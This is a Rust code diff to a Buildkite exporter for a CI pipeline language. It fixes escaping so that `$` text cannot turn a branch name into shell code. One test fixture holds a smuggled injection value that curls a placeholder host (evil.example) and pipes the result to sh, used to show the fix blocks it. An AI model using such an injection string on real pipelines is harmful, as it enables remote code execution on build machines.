@@ -3,10 +3,12 @@
 //! step among them), because an explicit `depends_on` replaces the implicit dependencies of
 //! `wait` and `block` steps. Buildkite treats a dependency skipped by `if` as satisfied, so a
 //! skipped job stops nothing; skipping along explicit needs is carried by each step's
-//! effective condition. The upload substitutes `$` variables in the whole file: every `$` of
-//! the file is written `$$`, and the run's id is read at run time.
+//! effective condition. The upload substitutes `$` variables in every string of the file:
+//! each string is spelled by [`interpolation`] so that the upload gives back cdl's text, and
+//! the run's id is read at run time.
 
 mod conditions;
+mod interpolation;
 
 use std::collections::{HashMap, HashSet};
 use std::path::PathBuf;
@@ -51,16 +53,64 @@ impl Exporter for Buildkite {
             files: vec![OutputFile {
                 role: FileRole::Pipeline,
                 path: self.default_path(plan),
-                content: escape_dollars(&super::to_yaml(&pipeline)),
+                content: super::to_yaml(&spell(pipeline)),
             }],
             lossy: builder.lossy,
         }
     }
 }
 
-/// The upload replaces `$NAME` and `${NAME}` in the whole file; `$$` is a literal `$`.
-fn escape_dollars(text: &str) -> String {
-    text.replace('$', "$$")
+/// Every string of the pipeline spelled for the upload's interpolation: commands as shell
+/// lines, the rest as literal text. Text that cannot be literal was moved or reported by the
+/// builder; it is written [`interpolation::nearest`], never raw.
+fn spell(mut pipeline: Pipeline) -> Pipeline {
+    let text = |s: &mut String| {
+        *s = interpolation::literal(s).unwrap_or_else(|| interpolation::nearest(s));
+    };
+    let map = |m: &mut IndexMap<String, String>| {
+        *m = std::mem::take(m)
+            .into_iter()
+            .map(|(mut k, mut v)| {
+                text(&mut k);
+                text(&mut v);
+                (k, v)
+            })
+            .collect();
+    };
+    map(&mut pipeline.env);
+    for group in &mut pipeline.steps {
+        text(&mut group.group);
+        group.condition.iter_mut().for_each(text);
+        for step in &mut group.steps {
+            match step {
+                Step::Command(step) => {
+                    text(&mut step.label);
+                    step.condition.iter_mut().for_each(text);
+                    step.agents.values_mut().for_each(text);
+                    step.image.iter_mut().for_each(text);
+                    map(&mut step.env);
+                    step.secrets.iter_mut().for_each(text);
+                    if let Some(matrix) = &mut step.matrix {
+                        for values in matrix.setup.values_mut() {
+                            values.iter_mut().for_each(text);
+                        }
+                    }
+                    step.concurrency_group.iter_mut().for_each(text);
+                    for line in &mut step.commands {
+                        *line = interpolation::command(line);
+                    }
+                    step.artifact_paths.iter_mut().for_each(text);
+                }
+                Step::Block(block) => {
+                    text(&mut block.block);
+                    block.condition.iter_mut().for_each(text);
+                    block.prompt.iter_mut().for_each(text);
+                    block.allowed_teams.iter_mut().for_each(text);
+                }
+            }
+        }
+    }
+    pipeline
 }
 
 #[derive(Serialize)]
@@ -200,11 +250,17 @@ impl<'p> Builder<'p> {
             steps.push(Group {
                 group: stage.name.clone(),
                 condition: guard.clone(),
-                steps: stage_units.into_iter().map(|u| self.step(u)).collect(),
+                steps: after_free_steps(stage_units.into_iter().map(|u| self.step(u)).collect()),
             });
         }
         Pipeline {
-            env: self.plan.env.clone(),
+            env: self
+                .plan
+                .env
+                .iter()
+                .filter(|(_, v)| !interpolation::escaped_dollar(v))
+                .map(|(k, v)| (k.clone(), v.clone()))
+                .collect(),
             steps,
         }
     }
@@ -262,11 +318,31 @@ impl<'p> Builder<'p> {
         if let Some(runner) = &job.runner {
             step.agents.insert("queue", runner.clone());
         }
-        step.env = unit
-            .env(|axis| format!("{{{{matrix.{axis}}}}}"))
-            .into_iter()
-            .filter(|(k, v)| self.plan.env.get(k) != Some(v))
-            .collect();
+        let mut exported = Vec::new();
+        for (name, value) in unit.env(|axis| format!("{{{{matrix.{axis}}}}}")) {
+            if !interpolation::escaped_dollar(&value) {
+                if self.plan.env.get(&name) != Some(&value) {
+                    step.env.insert(name, value);
+                }
+            } else if shell::is_identifier(&name) {
+                exported.push(format!("export {name}={}", shell::quote(&value)));
+            } else {
+                self.lossy.push(Lossy::at(
+                    job,
+                    format!("the value of `{name}` holds `\\$`, which Buildkite's upload reads as an escaped `$`, and `{name}` is no shell variable name the commands could set"),
+                    "the value is written without the backslash before `$`; rename the variable with letters, digits and `_` only",
+                ));
+                step.env.insert(name, value);
+            }
+        }
+        self.text_places(
+            job,
+            &[
+                ("label", Some(&step.label)),
+                ("image", job.image.as_ref()),
+                ("runner", job.runner.as_ref()),
+            ],
+        );
         step.secrets = job.secrets.clone();
         if unit.is_matrix() {
             step.matrix = Some(Matrix {
@@ -293,7 +369,23 @@ impl<'p> Builder<'p> {
         }
         self.concurrency(job, &mut step);
         self.commands(job, &mut step);
+        // The values the upload cannot carry are set by the script, as first lines.
+        step.commands.splice(0..0, exported);
         Step::Command(Box::new(step))
+    }
+
+    /// A warning for each place of a step whose text Buildkite's upload cannot carry exactly
+    /// (a `\\$`); [`spell`] writes it without that backslash.
+    fn text_places(&mut self, job: &Job, places: &[(&str, Option<&String>)]) {
+        for (place, text) in places {
+            if let Some(text) = text.filter(|t| interpolation::escaped_dollar(t)) {
+                self.lossy.push(Lossy::at(
+                    job,
+                    format!("the {place} `{text}` holds `\\$`, which Buildkite's upload reads as an escaped `$`"),
+                    format!("the {place} is written without the backslash before `$`"),
+                ));
+            }
+        }
     }
 
     fn block(&mut self, job: &'p Job) -> BlockStep {
@@ -312,6 +404,9 @@ impl<'p> Builder<'p> {
                 "the gate's timeout is not enforced; cancel the build by hand when it is over",
             ));
         }
+        let mut places = vec![("message", job.message.as_ref())];
+        places.extend(job.approvers.iter().map(|a| ("approver", Some(a))));
+        self.text_places(job, &places);
         BlockStep {
             block: job.id.clone(),
             key: self.keys[job.id.as_str()].clone(),
@@ -400,6 +495,24 @@ impl<'p> Builder<'p> {
     }
 }
 
+/// The steps with every block step moved after the last command step that has no
+/// `depends_on`: Buildkite makes such a step wait for every block step before it, though it
+/// does not wait for the gate in cdl (the first stage's jobs without needs). A step with a
+/// `depends_on` waits only for what it lists.
+fn after_free_steps(steps: Vec<Step>) -> Vec<Step> {
+    let free = |step: &Step| matches!(step, Step::Command(c) if c.depends_on.is_empty());
+    let Some(last) = steps.iter().rposition(free) else {
+        return steps;
+    };
+    let mut steps = steps;
+    let tail = steps.split_off(last + 1);
+    let (blocks, mut ordered): (Vec<Step>, Vec<Step>) =
+        steps.into_iter().partition(|s| matches!(s, Step::Block(_)));
+    ordered.extend(blocks);
+    ordered.extend(tail);
+    ordered
+}
+
 fn minutes(n: u64) -> String {
     format!("{n} minute{}", if n == 1 { "" } else { "s" })
 }
@@ -412,6 +525,7 @@ fn units(plan: &Plan) -> Vec<Unit<'_>> {
         let foldable = unit.axes.len() <= MAX_MATRIX_AXES
             && unit.axes.iter().all(|(axis, values)| {
                 values.len() <= MAX_MATRIX_VALUES
+                    && !values.iter().any(|v| interpolation::escaped_dollar(v))
                     && axis.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
             })
             && !mentions_matrix(unit.job());
@@ -461,13 +575,7 @@ fn unique_key(id: &str, taken: &mut HashSet<String>) -> String {
     if key.is_empty() || looks_like_uuid(&key) {
         key.insert_str(0, "job-");
     }
-    let mut candidate = key.clone();
-    let mut n = 2;
-    while !taken.insert(candidate.clone()) {
-        candidate = format!("{key}-{n}");
-        n += 1;
-    }
-    candidate
+    jobs::claim_unique(taken, &key, |key, n| format!("{key}-{n}"))
 }
 
 /// Buildkite refuses a key that looks like a step's UUID.
@@ -554,11 +662,196 @@ mod tests {
         );
     }
 
+    fn plan_of(text: &str) -> Plan {
+        let compilation = crate::compile::compile_text("p.cdl", None, text.into());
+        assert!(
+            compilation.diagnostics.is_empty(),
+            "{:?}",
+            compilation.diagnostics
+        );
+        crate::plan::build(&compilation).unwrap()
+    }
+
+    /// Every string of the pipeline (keys and values) as the upload reads it after parsing
+    /// the YAML: interpolated, as go-pipeline's `interpolateAny` does.
+    fn uploaded(plan: &Plan) -> Vec<String> {
+        fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
+            match value {
+                serde_json::Value::String(s) => out.push(s.clone()),
+                serde_json::Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
+                serde_json::Value::Object(map) => {
+                    for (k, v) in map {
+                        out.push(k.clone());
+                        strings(v, out);
+                    }
+                }
+                _ => {}
+            }
+        }
+        let env: HashMap<String, String> = [
+            ("HOME", "/root"),
+            ("BUILDKITE_BRANCH", "x\";curl${IFS}evil.example|sh;\""),
+        ]
+        .into_iter()
+        .map(|(k, v)| (k.to_string(), v.to_string()))
+        .collect();
+        let pipeline = spell(Builder::new(plan).pipeline());
+        let mut out = Vec::new();
+        strings(&serde_json::to_value(&pipeline).unwrap(), &mut out);
+        out.iter()
+            .map(|s| interpolation::evaluate(s, &env).unwrap())
+            .collect()
+    }
+
+    /// Issue 10: `costs \$HOME` and `\$BUILDKITE_BRANCH` were written `\$$…`, which the
+    /// upload reads as `$` and an expansion: a branch name became shell code.
+    #[test]
+    fn buildkite_backslash_dollar_is_not_expanded() {
+        let plan = plan_of(
+            r#"pipeline p {
+                 env { PRICE = "costs \\$HOME" }
+                 stage s {
+                   job j {
+                     run = "sh -c \"echo building \\$BUILDKITE_BRANCH\""
+                     env { ODD = "\\\\\\$HOME" }
+                   }
+                 }
+               }"#,
+        );
+        let export = Buildkite.export(&plan);
+        assert!(export.lossy.is_empty(), "{:?}", export.lossy);
+        let uploaded = uploaded(&plan).join("\n");
+        assert!(!uploaded.contains("curl"), "{uploaded}");
+        assert!(!uploaded.contains("/root"), "{uploaded}");
+        assert!(
+            uploaded.contains("export PRICE='costs \\''$HOME'"),
+            "{uploaded}"
+        );
+        assert!(
+            uploaded.contains("export ODD='\\\\\\''$HOME'"),
+            "{uploaded}"
+        );
+    }
+
+    /// Issue 10: a gate in the first stage was a block step written before jobs that do not
+    /// wait for it, and Buildkite made them wait.
+    #[test]
+    fn buildkite_first_stage_gate_does_not_hold_other_jobs() {
+        let plan = plan_of(
+            r#"pipeline p {
+                 stage first {
+                   gate hold { approvers = ["release"] }
+                   job free { run = "true" }
+                   job held { run = "true"; after = [hold] }
+                 }
+                 stage second { job later { run = "true" } }
+               }"#,
+        );
+        let pipeline = Builder::new(&plan).pipeline();
+        let mut seen_block = false;
+        for step in pipeline.steps.iter().flat_map(|g| &g.steps) {
+            match step {
+                Step::Block(_) => seen_block = true,
+                Step::Command(c) if c.key == "held" || c.key == "later" => {
+                    assert!(c.depends_on.contains(&"hold".to_string()), "{}", c.key);
+                }
+                Step::Command(c) => {
+                    assert!(!seen_block, "{} comes after the block step", c.key);
+                    assert!(c.depends_on.is_empty());
+                }
+            }
+        }
+        assert!(seen_block);
+    }
+
+    /// The hostile pipeline of `testdata/`: after the upload, every command runs as written
+    /// and every variable holds its text, checked with a real shell; nothing is expanded.
+    #[test]
+    fn buildkite_hostile_text_reaches_the_shell_exactly() {
+        let compilation = crate::compile::compile_text(
+            "hostile.cdl",
+            None,
+            include_str!("testdata/hostile.cdl").into(),
+        );
+        let plan = crate::plan::build(&compilation).unwrap();
+        let strings = uploaded(&plan).join("\n");
+        assert!(
+            !strings.contains("/root") && !strings.contains("curl"),
+            "{strings}"
+        );
+        let env: HashMap<String, String> = [("HOME", "/root")]
+            .into_iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect();
+        let pipeline = spell(Builder::new(&plan).pipeline());
+        let sh = |script: &str| {
+            let output = std::process::Command::new("sh")
+                .args(["-c", script])
+                .env("HOME", "/root")
+                .output()
+                .unwrap();
+            String::from_utf8(output.stdout).unwrap()
+        };
+        let mut checked = 0;
+        for step in pipeline.steps.iter().flat_map(|g| &g.steps) {
+            let Step::Command(step) = step else { continue };
+            let lines: Vec<String> = step
+                .commands
+                .iter()
+                .map(|l| interpolation::evaluate(l, &env).unwrap())
+                .collect();
+            // What the step's script sees: the variables of the step and of the pipeline, and
+            // those its first lines export.
+            let mut seen: HashMap<String, String> = HashMap::new();
+            for (name, value) in pipeline.env.iter().chain(&step.env) {
+                seen.insert(name.clone(), interpolation::evaluate(value, &env).unwrap());
+            }
+            for line in lines.iter().filter(|l| l.starts_with("export ")) {
+                let name = &line["export ".len()..line.find('=').unwrap()];
+                seen.insert(name.into(), sh(&format!("{line}; printf %s \"${name}\"")));
+            }
+            let job = plan
+                .jobs
+                .iter()
+                .find(|j| seen.get("CDL_JOB") == Some(&j.id))
+                .unwrap();
+            for (name, value) in &job.env {
+                assert_eq!(seen.get(name), Some(value), "{} {name}", job.id);
+                checked += 1;
+            }
+            let commands: Vec<&String> = lines
+                .iter()
+                .filter(|l| l.starts_with("sh -e -c "))
+                .collect();
+            assert_eq!(commands.len(), job.steps.len());
+            for (line, text) in commands.iter().zip(&job.steps) {
+                let printed = sh(&format!("printf %s {}", &line["sh -e -c ".len()..]));
+                assert_eq!(&printed, text);
+                checked += 1;
+            }
+        }
+        assert!(checked > 20, "{checked}");
+    }
+
+    /// Issue 10: an `image` with `$` is spelled for the upload, not passed raw.
+    #[test]
+    fn buildkite_image_with_a_dollar_is_literal() {
+        let plan = plan_of(
+            r#"pipeline p { stage s { job j { run = "true"; image = "$REGISTRY/app:${TAG}" } } }"#,
+        );
+        let strings = uploaded(&plan);
+        assert!(
+            strings.contains(&"$REGISTRY/app:${TAG}".to_string()),
+            "{strings:?}"
+        );
+    }
+
     #[test]
     fn every_dollar_is_escaped() {
-        assert_eq!(
-            escape_dollars("echo \"$HOME\" ${X}"),
-            "echo \"$$HOME\" $${X}"
-        );
+        let plan =
+            plan_of("pipeline p { stage s { job j { run = \"echo \\\"$HOME\\\" ${X}\" } } }");
+        let content = &Buildkite.export(&plan).files[0].content;
+        assert!(content.contains("$$HOME"), "{content}");
+        assert!(content.contains("$${X}"), "{content}");
     }
 }
